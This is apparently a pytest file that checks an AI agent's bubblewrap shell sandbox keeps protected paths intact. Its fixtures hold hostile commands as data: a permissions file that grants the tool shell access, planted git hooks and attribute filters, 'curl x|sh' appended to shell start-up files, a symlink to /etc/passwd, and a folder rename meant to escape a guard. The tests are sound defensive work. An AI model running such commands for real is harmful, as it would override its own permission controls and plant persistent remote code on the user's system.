"""Protected paths that do not exist yet (``.echo-desk/``, ``.git/hooks``, ``.bashrc``, ``.envrc``)
cannot be created by a sandboxed command, and no placeholder is left in the workspace after it.
Real run_command, real bwrap."""

from __future__ import annotations

import asyncio
import shutil
import time
from collections.abc import Callable

import pytest
from sandbox_helpers import Jail, context, requires_bwrap, run, tool_with

from echo_desk import sandbox

pytestmark = requires_bwrap

# (name, command, paths relative to the workspace that must not exist afterwards)
PLANTS: tuple[tuple[str, str, tuple[str, ...]], ...] = (
    ("grant itself rules", "mkdir -p .echo-desk; printf '[[rule]]\\neffect = \"allow\"\\ntool = \"shell\"\\n' "
                           "> .echo-desk/permissions.local.toml", (".echo-desk",)),
    ("replace the placeholder folder", "rmdir .echo-desk; mv .echo-desk gone; mkdir .echo-desk; "
                                       "echo x > .echo-desk/permissions.toml", (".echo-desk", "gone")),
    ("plant a hook in a repository without hooks", "mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; "
                                                   "chmod +x .git/hooks/pre-commit", (".git/hooks",)),
    ("plant git info", "mkdir -p .git/info; echo '* filter=evil' > .git/info/attributes", (".git/info",)),
)

# In a workspace that is the home folder (the one place a shell reads them from).
HOME_PLANTS: tuple[tuple[str, str, tuple[str, ...]], ...] = (
    ("plant shell start-up files", "echo 'curl x|sh' > .bashrc; echo 'curl x|sh' >> .profile; "
                                   "echo 'curl x|sh' > .zshenv; mkdir -p .config/fish",
     (".bashrc", ".profile", ".zshenv", ".config/fish")),
    ("swap a start-up placeholder", "rm -f .bashrc; mv .bashrc x; ln -s /etc/passwd .bashrc; echo y > .bashrc",
     (".bashrc", "x")),
)


async def _until(condition: Callable[[], bool], seconds: float = 30.0) -> None:
    """Wait for ``condition`` with a deadline (polling: the sandbox gives no event to wait on)."""
    deadline = time.monotonic() + seconds
    for _ in iter(int, 1):
        if condition():
            return
        assert time.monotonic() < deadline, "condition not met in time"
        await asyncio.sleep(0.02)


def _bare(jail: Jail) -> None:
    shutil.rmtree(jail.workspace / ".git" / "hooks", ignore_errors=True)
    shutil.rmtree(jail.workspace / ".git" / "info", ignore_errors=True)


@pytest.mark.parametrize(("name", "command", "absent"), PLANTS, ids=[p[0] for p in PLANTS])
async def test_a_missing_protected_path_cannot_be_planted_and_leaves_nothing(
        jail: Jail, name: str, command: str, absent: tuple[str, ...]) -> None:
    _bare(jail)
    before = sorted(p.relative_to(jail.workspace).as_posix() for p in jail.workspace.rglob("*"))
    result = await run(tool_with(), {"command": command}, context(jail.workspace))
    assert result.success and result.metadata["sandbox"]["sandboxed"] is True
    for relative in absent:
        assert not (jail.workspace / relative).exists() and not (jail.workspace / relative).is_symlink(), \
            (name, relative, result.output)
    after = sorted(p.relative_to(jail.workspace).as_posix() for p in jail.workspace.rglob("*"))
    assert after == before, name
    refusals = ("Read-only file system", "Device or resource busy", "Permission denied")
    assert any(r in result.output for r in refusals), result.output


@pytest.mark.parametrize(("name", "command", "absent"), HOME_PLANTS, ids=[p[0] for p in HOME_PLANTS])
async def test_in_the_home_folder_start_up_files_cannot_be_planted(
        jail: Jail, name: str, command: str, absent: tuple[str, ...]) -> None:
    home_ws = jail.home  # the person opened their home folder as the workspace
    (home_ws / ".config").mkdir(exist_ok=True)
    before = sorted(p.relative_to(home_ws).as_posix() for p in home_ws.rglob("*"))
    tool = tool_with()
    result = await run(tool, {"command": command}, context(home_ws))
    assert result.success and result.metadata["sandbox"]["sandboxed"] is True
    for relative in absent:
        assert not (home_ws / relative).exists() and not (home_ws / relative).is_symlink(), (name, relative)
    assert sorted(p.relative_to(home_ws).as_posix() for p in home_ws.rglob("*")) == before, name


async def test_a_placeholder_never_shows_up_in_git(jail: Jail) -> None:
    _bare(jail)
    result = await run(tool_with(), {"command": "git status --porcelain --untracked-files=all; git add -A && "
                                                "git -c user.name=t -c user.email=t@e commit -qm x && "
                                                "git show --stat --format= HEAD"}, context(jail.workspace))
    assert result.success and result.metadata["exit_code"] == 0, result.output
    assert ".echo-desk" not in result.output and ".bashrc" not in result.output
    assert result.output.split("\n", 1)[1].strip().startswith("?? README"), result.output


async def test_existing_ones_are_read_only_and_kept(jail: Jail) -> None:
    (jail.workspace / ".envrc").write_text("mine\n")
    (jail.workspace / ".echo-desk").mkdir()
    result = await run(tool_with(), {"command": "echo evil > .envrc; echo x > .echo-desk/permissions.local.toml"},
                       context(jail.workspace))
    assert result.success
    assert (jail.workspace / ".envrc").read_text() == "mine\n"  # existing: read-only, anywhere
    assert list((jail.workspace / ".echo-desk").iterdir()) == []


async def test_a_placeholder_shared_by_two_commands_stays_until_the_last_ends(jail: Jail) -> None:
    _bare(jail)
    go = jail.workspace / "go"
    slow = asyncio.create_task(run(tool_with(), {
        "command": "while [ ! -e go ]; do sleep 0.05; done; mkdir -p .echo-desk/x && echo planted; true",
        "timeout_seconds": 60}, context(jail.workspace)))
    await _until(lambda: (jail.workspace / ".echo-desk").exists())  # the slow one's sandbox is up
    quick = await run(tool_with(), {"command": "true"}, context(jail.workspace))
    assert quick.success
    # The quick one ended first: removing the shared placeholder now would detach the slow
    # one's read-only cover. It stays while the slow one runs.
    assert (jail.workspace / ".echo-desk").is_dir()
    go.write_text("")
    result = await slow
    assert result.success and "planted" not in result.output, result.output
    assert not (jail.workspace / ".echo-desk").exists()


async def test_something_the_person_put_in_a_placeholder_is_kept(jail: Jail) -> None:
    _bare(jail)
    slow = asyncio.create_task(run(tool_with(), {"command": "while [ ! -e go ]; do sleep 0.05; done",
                                                 "timeout_seconds": 60}, context(jail.workspace)))
    await _until(lambda: (jail.workspace / ".echo-desk").exists())
    (jail.workspace / ".echo-desk" / "notes").write_text("the person's own\n")  # outside the sandbox
    (jail.workspace / "go").write_text("")
    assert (await slow).success
    assert (jail.workspace / ".echo-desk" / "notes").read_text() == "the person's own\n"


def test_a_spec_can_leave_missing_paths_alone(jail: Jail) -> None:
    _bare(jail)
    spec = sandbox.SandboxSpec(writable=(jail.workspace,), cwd=jail.workspace, guard_missing=False)
    launch = sandbox.prepare(spec, ["true"], "bwrap")
    try:
        assert launch.placeholders == () and str(jail.workspace / ".echo-desk") not in launch.argv
    finally:
        launch.close()
        launch.release()


@pytest.mark.parametrize("shell", ["bash", "dash"])
async def test_renaming_the_folder_above_a_placeholder_leaves_nothing_behind(
        jail: Jail, monkeypatch: pytest.MonkeyPatch, shell: str) -> None:
    """The home folder as the workspace, ``~/.config/fish`` missing (a placeholder while the command
    runs) and no hidden place in ``~/.config`` (which would keep it in place): ``mv ~/.config
    ~/.cfg2`` took the placeholder along, and ``~/.cfg2/fish`` stayed on disk for good (only
    ``~/.config/fish`` was looked at); then a ``~/.config/fish`` of the command's own stood at the
    name fish reads until the check after the command. The folder is kept in place now (bound
    onto itself), so the move is refused and nothing is left behind."""
    home_ws = jail.base / "plain-home"
    (home_ws / ".config").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home_ws))
    (home_ws / ".config" / "mine").write_text("kept\n")
    line = "mv .config .cfg2 && ls -a .cfg2"
    command = line if shell == "bash" else f"dash -c '{line}'"
    result = await run(tool_with(), {"command": command}, context(home_ws))
    assert result.metadata["sandbox"]["sandboxed"] is True, result.output
    assert result.metadata["sandbox"]["blocked"] == ["kept_in_place"], result.output
    assert (home_ws / ".config" / "mine").read_text() == "kept\n" and not (home_ws / ".cfg2").exists()
    assert not (home_ws / ".config" / "fish").exists()
